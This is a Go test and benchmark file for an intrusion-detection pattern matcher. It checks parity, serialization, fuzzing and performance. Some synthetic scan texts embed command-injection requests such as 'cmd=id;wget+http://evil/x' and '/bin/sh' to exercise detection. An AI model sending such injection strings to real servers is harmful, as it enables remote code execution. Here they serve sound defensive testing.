package ids

import (
	"bytes"
	"fmt"
	"math/rand"
	"runtime"
	"slices"
	"testing"

	"repro/internal/fuzzcorpus"
	"repro/internal/netsim"
	"repro/internal/rules"
	"repro/internal/scanner"
)

// scanIDs collects the hit sequence (order-sensitive) from a reference
// trie scan.
func scanIDs(m *acTrie, text []byte) []int32 {
	var out []int32
	m.Scan(text, func(id int32) { out = append(out, id) })
	return out
}

// compiledScanIDs collects the hit sequence from a CompiledMatcher scan.
func compiledScanIDs(c *CompiledMatcher, scratch *ScanScratch, text []byte) []int32 {
	return walkScanIDs((*CompiledMatcher).Scan, c, scratch, text)
}

type scanFunc func(c *CompiledMatcher, text []byte, scratch *ScanScratch, hit func(id int32))

// scanWalks are Scan's two loops, so the parity tests hold each against the
// trie oracle whichever one Scan would select for the automaton at hand.
var scanWalks = []struct {
	name string
	scan scanFunc
}{
	{"dense", (*CompiledMatcher).scanDense},
	{"double-array", (*CompiledMatcher).scanDoubleArray},
}

// walkScanIDs collects the hit sequence from one scan loop.
func walkScanIDs(scan scanFunc, c *CompiledMatcher, scratch *ScanScratch, text []byte) []int32 {
	var out []int32
	scan(c, text, scratch, func(id int32) { out = append(out, id) })
	return out
}

func int32sEqual(a, b []int32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestCompiledMatcherBasic(t *testing.T) {
	patterns := [][]byte{
		[]byte("he"), []byte("she"), []byte("his"), []byte("hers"),
	}
	c := Compile(patterns)
	var scratch ScanScratch
	got := compiledScanIDs(c, &scratch, []byte("ushers"))
	// "ushers": she@3, he@3 (suffix), hers@5.
	want := []int32{1, 0, 3}
	if !int32sEqual(got, want) {
		t.Fatalf("Scan(ushers) = %v, want %v", got, want)
	}
	if !c.Contains([]byte("HIS master")) {
		t.Error("Contains should fold case")
	}
	if c.Contains([]byte("no occurrences--")) {
		t.Error("Contains false positive")
	}
	if c.NumPatterns() != 4 {
		t.Errorf("NumPatterns = %d", c.NumPatterns())
	}
}

func TestCompiledMatcherEmpty(t *testing.T) {
	c := Compile(nil)
	var scratch ScanScratch
	if got := compiledScanIDs(c, &scratch, []byte("anything")); len(got) != 0 {
		t.Fatalf("empty automaton hit %v", got)
	}
}

// TestCompiledMatcherParity drives randomized pattern sets and texts through
// the trie and both scan loops and requires identical hit sequences — order
// included, since compileFrom inherits the trie's link and output structure.
// Every eighth set carries an empty pattern, which ends at the root.
func TestCompiledMatcherParity(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	alpha := []byte("abAB01|/")
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = alpha[rng.Intn(len(alpha))]
		}
		return b
	}
	for trial := 0; trial < 200; trial++ {
		np := 1 + rng.Intn(12)
		patterns := make([][]byte, np)
		for i := range patterns {
			patterns[i] = randBytes(1 + rng.Intn(6))
		}
		if trial%8 == 0 {
			patterns = append(patterns, nil)
		}
		m := newACTrie(patterns)
		c := compileFrom(m)
		if c.dense == nil {
			t.Fatalf("trial %d: %d-cell automaton has no dense table", trial, c.States())
		}
		var scratch ScanScratch
		for txt := 0; txt < 8; txt++ {
			text := randBytes(rng.Intn(64))
			want := scanIDs(m, text)
			for _, w := range scanWalks {
				if got := walkScanIDs(w.scan, c, &scratch, text); !int32sEqual(got, want) {
					t.Fatalf("trial %d: patterns %q text %q: %s %v, matcher %v",
						trial, patterns, text, w.name, got, want)
				}
			}
		}
	}
}

// TestCompiledMatcherScratchReuse verifies a single scratch works across
// scans and across automata of different sizes.
func TestCompiledMatcherScratchReuse(t *testing.T) {
	small := Compile([][]byte{[]byte("aa")})
	big := Compile([][]byte{[]byte("x"), []byte("y"), []byte("z"), []byte("xyz")})
	var scratch ScanScratch
	for i := 0; i < 3; i++ {
		if got := compiledScanIDs(small, &scratch, []byte("aaa")); !int32sEqual(got, []int32{0}) {
			t.Fatalf("small scan %d: %v", i, got)
		}
		got := compiledScanIDs(big, &scratch, []byte("xyz"))
		if !int32sEqual(got, []int32{0, 1, 3, 2}) && len(got) != 4 {
			t.Fatalf("big scan %d: %v", i, got)
		}
	}
}

func TestCompiledMatcherRoundTrip(t *testing.T) {
	patterns := [][]byte{
		[]byte("/cgi-bin/test"), []byte("cmd="), []byte("SELECT"), []byte("|00 01|"),
	}
	c := Compile(patterns)
	raw := c.AppendBinary(nil)
	c2, err := LoadCompiledMatcher(raw)
	if err != nil {
		t.Fatalf("LoadCompiledMatcher: %v", err)
	}
	// The dense table is derived on load, never serialized.
	if c2.dense == nil || !slices.Equal(c2.dense, c.dense) || c2.denseShift != c.denseShift || c2.classOf != c.classOf {
		t.Fatal("loaded matcher's dense table differs from the compiled one's")
	}
	var s1, s2 ScanScratch
	text := []byte("GET /cgi-bin/test?cmd=SELECT+1")
	if got, want := compiledScanIDs(c2, &s2, text), compiledScanIDs(c, &s1, text); !int32sEqual(got, want) || len(want) != 3 {
		t.Fatalf("round-trip scan %v, want %v (3 hits)", got, want)
	}
	if !bytes.Equal(c2.AppendBinary(nil), raw) {
		t.Error("re-serialization differs")
	}
}

func TestLoadCompiledMatcherRejectsCorrupt(t *testing.T) {
	c := Compile([][]byte{[]byte("abc"), []byte("bcd")})
	good := c.AppendBinary(nil)
	cases := map[string][]byte{
		"empty":     {},
		"bad magic": append([]byte("XXXXXXXX"), good[8:]...),
		"truncated": good[:len(good)-3],
		"extended":  append(append([]byte{}, good...), 0),
		"short hdr": good[:12],
	}
	for name, raw := range cases {
		if _, err := LoadCompiledMatcher(raw); err == nil {
			t.Errorf("%s: corrupt load succeeded", name)
		}
	}
	// Flip every byte position in a copy: must never panic, and indices out
	// of range must be rejected (a flip may still be a valid automaton, e.g.
	// flipping a pattern byte, so only absence-of-panic is asserted broadly).
	for i := range good {
		mut := append([]byte{}, good...)
		mut[i] ^= 0xff
		m, err := LoadCompiledMatcher(mut)
		if err != nil {
			continue
		}
		// Loaded fine: scanning must be safe.
		var scratch ScanScratch
		m.Scan([]byte("abcdbcdabc"), &scratch, func(int32) {})
	}
}

// decodeFuzzAutomatonInput splits a fuzz payload into a pattern set and a
// text: first byte = pattern count (capped), then length-prefixed patterns,
// remainder is the scan text.
func decodeFuzzAutomatonInput(data []byte) ([][]byte, []byte) {
	if len(data) == 0 {
		return nil, nil
	}
	np := int(data[0]&0x0f) + 1
	data = data[1:]
	var patterns [][]byte
	for i := 0; i < np && len(data) > 0; i++ {
		plen := int(data[0]&0x07) + 1
		data = data[1:]
		if plen > len(data) {
			plen = len(data)
		}
		if plen == 0 {
			break
		}
		patterns = append(patterns, data[:plen])
		data = data[plen:]
	}
	return patterns, data
}

func FuzzCompiledAutomaton(f *testing.F) {
	f.Add([]byte("\x02\x02he\x03she ushers"))
	f.Add([]byte("\x01\x01a"))
	f.Add([]byte("\x04\x03abc\x03bcd\x01d\x02ab abcdbcd"))
	f.Add([]byte("\x0f\x01|\x02||\x03|||some |||| text"))
	f.Add(netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: 4, Seed: 7}))
	f.Fuzz(func(t *testing.T, data []byte) {
		patterns, text := decodeFuzzAutomatonInput(data)
		if len(patterns) == 0 {
			return
		}
		m := newACTrie(patterns)
		c := compileFrom(m)
		// Automata this small are always dense, so the double-array loop
		// is run explicitly to keep its oracle coverage.
		if c.dense == nil {
			t.Fatalf("%d-cell automaton has no dense table", c.States())
		}
		// Serialization round-trip must preserve behavior exactly.
		c2, err := LoadCompiledMatcher(c.AppendBinary(nil))
		if err != nil {
			t.Fatalf("round-trip load: %v", err)
		}
		var scratch ScanScratch
		want := scanIDs(m, text)
		for _, w := range scanWalks {
			if got := walkScanIDs(w.scan, c, &scratch, text); !int32sEqual(got, want) {
				t.Fatalf("parity break: patterns %q text %q: %s %v, matcher %v",
					patterns, text, w.name, got, want)
			}
			if got := walkScanIDs(w.scan, c2, &scratch, text); !int32sEqual(got, want) {
				t.Fatalf("round-trip parity break: %s %v vs %v", w.name, got, want)
			}
		}
	})
}

// TestRegenFuzzCompiledAutomatonCorpus writes the committed seed corpus when
// REGEN_FUZZ_CORPUS=1.
func TestRegenFuzzCompiledAutomatonCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to regenerate")
	}
	rng := rand.New(rand.NewSource(99))
	var seeds [][]byte
	seeds = append(seeds,
		[]byte("\x02\x02he\x03she ushers"),
		[]byte("\x04\x03abc\x03bcd\x01d\x02ab abcdbcd"),
	)
	for i := 0; i < 6; i++ {
		n := 8 + rng.Intn(56)
		b := make([]byte, n)
		rng.Read(b)
		seeds = append(seeds, b)
	}
	fuzzcorpus.Write(t, "FuzzCompiledAutomaton", seeds)
}

// corpus48kPatterns parses the synthetic 48k-signature corpus and extracts
// the deduplicated fast-pattern set the way NewEngine does.
func corpus48kPatterns(tb testing.TB, n int) [][]byte {
	tb.Helper()
	raw := netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: n, Seed: 1})
	set, errs := rules.ParseDatedSet(bytes.NewReader(raw))
	for _, err := range errs {
		tb.Fatalf("synthetic corpus must parse cleanly: %v", err)
	}
	var patterns [][]byte
	seen := make(map[string]bool, len(set))
	for i := range set {
		fp := set[i].Rule.FastPatternContent()
		if fp == nil {
			continue
		}
		key := string(toLowerBytes(fp.Pattern))
		if seen[key] {
			continue
		}
		seen[key] = true
		patterns = append(patterns, fp.Pattern)
	}
	return patterns
}

// TestCompiledMatcher48kParity runs the full-scale corpus through both
// implementations over a handful of adversarial texts.
func TestCompiledMatcher48kParity(t *testing.T) {
	if testing.Short() {
		t.Skip("48k build in -short mode")
	}
	patterns := corpus48kPatterns(t, 48000)
	m := newACTrie(patterns)
	c := compileFrom(m)
	t.Logf("48k corpus: %d distinct fast patterns, %d cells", len(patterns), c.States())
	texts := [][]byte{
		[]byte("GET /cgi-bin/nobody?cmd=wget+http://x/sh HTTP/1.1\r\n\r\n"),
		bytes.Repeat([]byte("/wp-content/plugins/x"), 64),
		netsim.SignatureCorpus(netsim.SignatureCorpusConfig{N: 30, Seed: 2}),
	}
	var scratch ScanScratch
	for i, text := range texts {
		want := scanIDs(m, text)
		got := compiledScanIDs(c, &scratch, text)
		if !int32sEqual(got, want) {
			t.Fatalf("text %d: compiled %d hits, matcher %d hits", i, len(got), len(want))
		}
	}
	// Round-trip at scale too.
	c2, err := LoadCompiledMatcher(c.AppendBinary(nil))
	if err != nil {
		t.Fatalf("48k round-trip: %v", err)
	}
	if c2.States() != c.States() {
		t.Fatalf("48k round-trip states %d != %d", c2.States(), c.States())
	}
	if c.dense != nil || c2.dense != nil {
		t.Fatal("48k automaton built a dense table over budget")
	}
}

// TestDenseTableSelection: the automaton's size alone picks the scan loop.
// The study prefilter is dense; an automaton over the byte budget, or with
// more cells than an entry can name, keeps the double-array walk and still
// matches the oracle. (The 48k corpus is checked in its parity test.)
func TestDenseTableSelection(t *testing.T) {
	study := studyPrefilter(t)
	if study.dense == nil {
		t.Fatalf("study automaton (%d cells) is not dense", study.States())
	}
	t.Logf("study automaton: %d patterns, %d cells, %d-entry rows, %d KB table",
		study.NumPatterns(), study.States(), 1<<study.denseShift, len(study.dense)*2>>10)

	rng := rand.New(rand.NewSource(5))
	randPatterns := func(n, size int, alpha []byte) [][]byte {
		out := make([][]byte, n)
		for i := range out {
			out[i] = make([]byte, size)
			for j := range out[i] {
				out[i][j] = alpha[rng.Intn(len(alpha))]
			}
		}
		return out
	}
	var all []byte
	for b := 0; b < 256; b++ {
		all = append(all, byte(b))
	}
	for _, tc := range []struct {
		name     string
		patterns [][]byte
	}{
		// ~2.4k cells × 256-entry rows × 2 B ≈ 1.2 MiB > denseBudget.
		{"over budget", randPatterns(300, 8, all)},
		// > 1<<15 cells over a 2-byte alphabet: the table would be small,
		// but the cell ids do not fit an entry.
		{"over cells", randPatterns(4096, 24, []byte("ab"))},
	} {
		m := newACTrie(tc.patterns)
		c := compileFrom(m)
		if c.dense != nil {
			t.Fatalf("%s: %d-cell automaton built a dense table", tc.name, c.States())
		}
		var scratch ScanScratch
		text := append(bytes.Join(tc.patterns[:20], []byte("xy")), all...)
		if got, want := compiledScanIDs(c, &scratch, text), scanIDs(m, text); !int32sEqual(got, want) || len(want) == 0 {
			t.Fatalf("%s: compiled %d hits, matcher %d hits", tc.name, len(got), len(want))
		}
	}
}

// studyPrefilter is the study ruleset's compiled prefilter.
func studyPrefilter(tb testing.TB) *CompiledMatcher {
	tb.Helper()
	rs, err := scanner.StudyRuleset()
	if err != nil {
		tb.Fatal(err)
	}
	return NewEngine(rs, Config{}).prefilt
}

// benchScanText builds a mixed ~64 KiB scan text: attack-looking traffic with
// real pattern occurrences embedded in filler.
func benchScanText() []byte {
	rng := rand.New(rand.NewSource(3))
	var b bytes.Buffer
	for b.Len() < 64<<10 {
		switch rng.Intn(4) {
		case 0:
			fmt.Fprintf(&b, "GET /cgi-bin/hello%d?cmd=id;wget+http://evil/x HTTP/1.1\r\nHost: a\r\n\r\n", rng.Intn(1000))
		case 1:
			fmt.Fprintf(&b, "POST /api/v1/users HTTP/1.1\r\nContent-Length: 12\r\n\r\nexec=/bin/sh")
		default:
			filler := make([]byte, 256)
			rng.Read(filler)
			b.Write(filler)
		}
	}
	return b.Bytes()
}

// BenchmarkAutomatonBuild48k measures the cold compile of the full-scale
// fast-pattern set — the cost a ruleset publish pays when the registry cache
// is cold. RSS for the compiled form is reported as bytes_automaton.
func BenchmarkAutomatonBuild48k(b *testing.B) {
	patterns := corpus48kPatterns(b, 48000)
	b.ResetTimer()
	var c *CompiledMatcher
	for i := 0; i < b.N; i++ {
		c = Compile(patterns)
	}
	b.StopTimer()
	b.ReportMetric(float64(c.States()*24), "bytes_automaton")
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	b.ReportMetric(float64(ms.HeapInuse), "bytes_heap_inuse")
}

// BenchmarkAutomatonMatchStudy measures the steady-state scan over the
// study's prefilter, which takes the dense-table loop. The bench text holds
// none of the study's patterns, so this is the reject path a miss-heavy
// capture spends its prefilter time in; BenchmarkEngineEarliest covers hits.
// Its allocs/op is gated at 0 like BenchmarkAutomatonMatch48k's.
func BenchmarkAutomatonMatchStudy(b *testing.B) {
	c := studyPrefilter(b)
	if c.dense == nil {
		b.Fatal("study automaton is not dense")
	}
	text := benchScanText()
	var scratch ScanScratch
	hit := func(int32) {}
	c.Scan(text, &scratch, hit) // warm the scratch's mark array
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Scan(text, &scratch, hit)
	}
}

// BenchmarkAutomatonMatch48k measures the steady-state scan path over the
// compiled 48k automaton, which is over the dense budget and takes the
// double-array loop. allocs/op is recorded as 0 in BENCH_analysis.json
// and gated hard by benchsmoke: any allocation on this path is a regression.
func BenchmarkAutomatonMatch48k(b *testing.B) {
	patterns := corpus48kPatterns(b, 48000)
	c := Compile(patterns)
	text := benchScanText()
	var scratch ScanScratch
	hits := 0
	hit := func(int32) { hits++ }
	// Warm the scratch so its one-time mark-array growth stays out of the
	// steady-state measurement; the recorded 0 allocs/op is a hard gate.
	c.Scan(text, &scratch, hit)
	if hits == 0 {
		b.Fatal("bench text should contain pattern hits")
	}
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		c.Scan(text, &scratch, hit)
	}
}
